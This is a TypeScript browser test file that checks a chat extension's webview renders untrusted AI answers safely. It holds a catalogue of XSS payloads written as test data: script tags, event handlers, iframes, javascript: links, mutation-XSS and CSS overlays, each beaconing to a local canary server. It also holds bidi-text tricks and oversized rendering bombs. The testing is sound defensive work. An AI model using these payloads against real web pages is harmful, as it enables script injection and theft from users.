import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useBrowser } from './support/browser.ts';
import { ChatBench, type ChatView } from './support/chatBench.ts';
import { longestTask } from './support/longestTask.ts';
import { answer, chat, question } from './support/states.ts';

const browser = useBrowser(ChatBench.start);
let server: Server;
const hits: string[] = [];
beforeAll(async () => {
  server = createServer((request, response) => {
    hits.push(request.url!);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
});
afterAll(() => void server.close());
const canary = () => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

/** What script would do if any ran. */
const deed = () => `globalThis.stolen=1;fetch('${canary()}/fetch');acquireVsCodeApi&&parent.postMessage({command:'canary'},'*')`;
const cover = 'position:fixed;inset:0;z-index:99999;background:red;display:block;width:9999px;height:9999px';
const escaped = (text: string) => text.replace(/"/g, '&quot;');

/** Each tries to set a global, to reach the canary, to run a command, and to lie over what is beside it. */
const payloads: Record<string, () => string> = {
  script: () => `<script>${deed()}</script><script src="${canary()}/script.js"></script><div style="${cover}">x</div><a href="command:deltallm.canary">x</a>`,
  'elements with handlers': () => `<img src=x onerror="${escaped(deed())}"><svg onload="${escaped(deed())}"><details open ontoggle="${escaped(deed())}"><body onload="${escaped(deed())}"><input autofocus onfocus="${escaped(deed())}"><video src="${canary()}/v" autoplay></video>`,
  frames: () => `<iframe src="${canary()}/frame" style="${cover}"></iframe><iframe srcdoc="<script>${deed()}</script>"></iframe><object data="${canary()}/o"></object><embed src="${canary()}/e"><base href="${canary()}/">`,
  styles: () => `<style>*{${cover}} @import url("${canary()}/css"); body{background:url(${canary()}/bg)}</style><link rel=stylesheet href="${canary()}/l.css"><div class="composer actions code" style="${cover}">x</div><meta http-equiv=refresh content="0;url=${canary()}/meta">`,
  'links that run': () => ['javascript', 'JaVaScRiPt', 'java\tscript', 'command', 'vscode', 'data', 'vbscript', 'file'].map((scheme) => `[go](${scheme}:${encodeURIComponent(deed())}) [go](<${scheme}:deltallm.canary>) <${scheme}:deltallm.canary>`).join('\n\n') + `\n\n[go](&#106;avascript:alert) [go](java&Tab;script:x) [x]: javascript:x\n\n[x]`,
  'remote images': () => `![cat](${canary()}/image.png) ![](${canary()}/i2) [![a](${canary()}/i3)](https://example.org) ![x](data:image/svg+xml,<svg/onload=${deed()}>)\n\n![ref]\n\n[ref]: ${canary()}/i4`,
  'attributes out of Markdown': () => `[a](https://example.org "x\\" onmouseover=\\"${escaped(deed())}") \n\n| a |\n|:-:|\n| <td style="${cover}"> |\n\n\`\`\`ts" onclick="${escaped(deed())}" class="composer\ncode\n\`\`\`\n\n# <h1 style="${cover}">x</h1>`,
  'mutations in parsing': () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${escaped(deed())}&gt;"><form><input name=attributes><input name=children></form><svg></p><style><a id="</style><img src=1 onerror=${escaped(deed())}>">`,
  'templates of the view': () => `\${${deed()}} {{${deed()}}} <!--?lit$123$--> lit$1$ <?lit$1$> @click=\${x} <answer-text content="x"></answer-text>`,
  'names of the page': () => `<a id="chat" name="posted">x</a><form id="acquireVsCodeApi"></form><img name="getElementById"><div id="chat" class="conversation" role="status">x</div>`,
  'signs of a terminal': () => `\x1b[2J\x1b[31mred\x1b]8;;command:deltallm.canary\x07link\x1b]8;;\x07 \x07\x08\x08\x08 \x9b31m \r overwritten`,
  'directions of text': () => `\u202e\u2066// harmless\u2069 \u202d if (admin) {\u2066 // only\n\n\`\`\`js\nif (x \u202e) ⁦/* \u2066 */ { \u200b}\n\`\`\``,
  'towers of marks': () => `Z${'\u0300\u0301\u0489'.repeat(400)}algo\n\n\`\`\`\nZ${'\u0300\u0301\u0489'.repeat(400)}\n\`\`\``,
  'wide signs': () => `${'﷽'.repeat(200)} ${'𒐫'.repeat(50)} ${'W'.repeat(3000)}`,
};

/** Code comes after it, whose actions must stay what they are. */
const around = (payload: string) => `Before.\n\n${payload}\n\n\`\`\`ts\nconst safe = 1;\n\`\`\`\n\nAfter.`;

async function harmless(view: ChatView): Promise<void> {
  const { page } = view;
  // Whatever waits to run or to load gets the time to do so.
  await page.evaluate(() => new Promise((done) => setTimeout(done, 150)));
  const found = await page.evaluate(() => {
    const message = document.querySelector('.turn.last')!;
    const box = message.getBoundingClientRect();
    const conversation = document.querySelector('.conversation')!;
    const outside = [...message.querySelectorAll('*')].filter((element) => {
      // What scrolls in a box of its own, or is cut off by it, is drawn within that box.
      for (let parent = element.parentElement!; parent !== message; parent = parent.parentElement!) if (getComputedStyle(parent).overflowX !== 'visible' || getComputedStyle(parent).contain.includes('paint')) return false;
      const { left, right, top, bottom, width, height } = element.getBoundingClientRect();
      return width > 0 && height > 0 && (left < box.left - 1 || right > box.right + 1 || top < box.top - 1 || bottom > box.bottom + 1);
    });
    const elements = [...message.querySelectorAll('answer-text *')];
    return {
      stolen: 'stolen' in window,
      outside: outside.map((element) => element.outerHTML.slice(0, 200)),
      forbidden: elements.filter((element) => /^(script|style|iframe|img|svg|object|embed|link|meta|base|form|input|video|math|body)$/i.test(element.tagName)).map(({ tagName }) => tagName),
      attributes: [...new Set(elements.flatMap((element) => [...element.attributes].map(({ name }) => name)))].filter((name) => !['class', 'tabindex', 'role', 'aria-label', 'title', 'type', 'data-target', 'start', 'align', 'disabled'].includes(name)),
      classes: [...new Set(elements.flatMap((element) => [...element.classList]))].filter((name) => !/^(block|plain|code|volume|chapter|codeHead|language|actions|quiet|pages|page|longer|target|wide|code-\w+)$/.test(name)),
      targets: elements.flatMap((element) => (element as HTMLElement).dataset.target ?? []),
      contained: getComputedStyle(message).contain,
      sideways: conversation.scrollWidth > conversation.clientWidth || document.documentElement.scrollWidth > innerWidth,
      fixed: elements.filter((element) => !['static', 'relative'].includes(getComputedStyle(element).position)).length,
    };
  });
  expect(found).toEqual({ stolen: false, outside: [], forbidden: [], attributes: [], classes: [], targets: found.targets.filter((target) => /^https?:\/\/(example\.org|127\.0\.0\.1)/.test(target)), contained: expect.stringMatching(/paint|content/), sideways: false, fixed: 0 });
  expect(hits).toEqual([]);

  // "Apply" is what a click on its place meets, and it carries the code that is seen.
  const apply = page.getByRole('button', { name: 'Apply' }).last();
  await apply.scrollIntoViewIfNeeded();
  await apply.hover();
  expect(await apply.evaluate((button) => {
    const { left, top, width, height } = button.getBoundingClientRect();
    return [0.1, 0.5, 0.9].flatMap((x) => [0.1, 0.5, 0.9].map((y) => document.elementFromPoint(left + x * width, top + y * height) === button));
  })).not.toContain(false);
  await apply.click();
  // Every link is tried as well.
  for (const link of await page.locator('.turn.last a').all()) await link.click();
  const posted = (await view.posted()).filter(({ type }) => type !== 'hello');
  expect(posted[0]).toEqual({ type: 'code', action: 'apply', language: 'ts', text: 'const safe = 1;\n' });
  for (const message of posted.slice(1)) expect(message).toEqual({ type: 'open', href: expect.stringMatching(/^https?:\/\/(example\.org|127\.0\.0\.1)/) });
  expect(page.url()).toContain('/page');
  expect(hits).toEqual([]);
}

describe('nothing of an answer is trusted', () => {
  it.each(Object.keys(payloads))('%s', async (name) => {
    const view = await browser.open();
    await view.show(chat({ turns: [question({ text: payloads[name]() }), answer({ text: around(payloads[name]()), reasoning: payloads[name]() })] }));
    await view.page.evaluate(() => document.querySelectorAll('details').forEach((each) => (each.open = true)));
    await harmless(view);
  });

  it.each(Object.keys(payloads))('%s, letter by letter', async (name) => {
    const view = await browser.open();
    await view.show(chat({ turns: [question(), answer({ state: 'writing' })] }));
    const text = around(payloads[name]());
    await view.page.evaluate(async (letters) => {
      let seq = 0;
      for (let at = 0; at < letters.length; at += 9) {
        window.dispatchEvent(new MessageEvent('message', { data: { type: 'change', epoch: 'one', seq: ++seq, change: { kind: 'append', turn: 'r1', text: letters.slice(at, at + 9) } } }));
        if (at % 27 === 0) await new Promise(requestAnimationFrame);
      }
    }, text);
    await view.settled();
    await harmless(view);
  });

  it('texts of the host’s own places are texts too', async () => {
    const view = await browser.open();
    const text = payloads.script();
    const attachment = { id: text, kind: 'file' as const, label: text, detail: text, tokens: 1, refused: text };
    await view.show(chat({ title: text, note: text, attachments: [attachment], model: { state: 'failed', name: text, sentence: text, searching: false, offers: [{ id: text, name: text, origin: text, detail: text, refused: text }] }, turns: [question({ text, attachments: [attachment] }), answer({ state: 'failed', note: text, text: around('') })] }));
    await harmless(view);
    expect(await view.page.evaluate(() => document.querySelectorAll('#chat script, #chat iframe, #chat [style], #chat a').length)).toBe(0);
  });

  it('hidden signs are shown, in text and in code', async () => {
    const view = await browser.open();
    await view.show(chat({ turns: [question(), answer({ text: `${payloads['signs of a terminal']()}\n\n${payloads['directions of text']()}` })] }));
    const text = await view.page.locator('answer-text').innerText();
    expect(text).toContain('␛[2J␛[31mred');
    expect(text).toContain('if (x ⟨U+202E⟩)');
    expect(text).not.toMatch(/[\x1b\x07\u202e\u2066\u200b]/);
  });
});

describe('what is too much', () => {
  const bombs: Record<string, () => string> = {
    'a line of a megabyte': () => 'x'.repeat(1_000_000),
    'a line of a megabyte in code': () => `\`\`\`js\n${'x'.repeat(1_000_000)}\n\`\`\``,
    'a megabyte of words': () => 'word '.repeat(200_000),
    'fifteen thousand lines of code': () => `\`\`\`js\n${'const a = [1, "two"]; // three\n'.repeat(15_000)}\`\`\``,
    'quotes within quotes': () => '>'.repeat(100_000),
    'lists within lists': () => '- '.repeat(50_000),
    brackets: () => '['.repeat(100_000),
    'brackets and parentheses': () => '[a]('.repeat(30_000),
    'stars and underscores': () => '*a_ **b__ '.repeat(10_000),
    backticks: () => Array.from({ length: 400 }, (_, index) => '`'.repeat(index)).join(' '),
    'a table of ten thousand cells': () => `${'|a'.repeat(100)}|\n${'|-'.repeat(100)}|\n${`${'|b'.repeat(100)}|\n`.repeat(100)}`,
    'indented lists': () => Array.from({ length: 3000 }, (_, index) => `${'  '.repeat(index % 200)}- item`).join('\n'),
    'ten thousand small blocks': () => '# a\n\n'.repeat(10_000),
    addresses: () => 'https://a.example/b '.repeat(20_000),
    'one address': () => `https://a.example/${'b/(c.'.repeat(50_000)}`,
    'beginnings of addresses': () => 'https://'.repeat(50_000),
    entities: () => '&amp;&#x202e;'.repeat(20_000),
  };

  it.each(Object.keys(bombs))('%s: is read in bounded pieces, and the view answers meanwhile', async (name) => {
    const view = await browser.open();
    const text = bombs[name]();
    await view.page.evaluate(() => {
      const seen = Object.assign(window, { flush: 0 });
      new MutationObserver((records) => {
        const added = records.flatMap(({ addedNodes }) => [...addedNodes]);
        seen.flush = Math.max(seen.flush, added.reduce((sum, node) => sum + 1 + (node instanceof Element ? node.getElementsByTagName('*').length : 0), 0));
      }).observe(document.body, { subtree: true, childList: true });
    });
    const longest = await longestTask(view.page, async () => {
      await view.show(chat({ turns: [question(), answer({ text: `${text}\n\nThe end.` })] }));
      // Beside the text that comes, keys are heard.
      await view.page.locator('textarea').fill('still here');
      await view.page.waitForFunction(() => document.querySelector('answer-text')!.lastElementChild?.lastElementChild?.lastElementChild?.textContent?.includes('The end.'));
      await view.settled();
    });
    const flush = await view.page.evaluate(() => (window as never as { flush: number }).flush);
    console.log(`${name}: the longest task takes ${longest.toFixed(0)} ms of the processor, at most ${flush} nodes a frame`);
    // Whatever comes, a frame makes a bounded part of it.
    expect(flush).toBeLessThan(6000);
    expect(await view.page.locator('textarea').inputValue()).toBe('still here');
    expect(await view.page.evaluate(() => { const { scrollWidth, clientWidth } = document.querySelector('.conversation')!; return scrollWidth - clientWidth; })).toBe(0);
  });
});
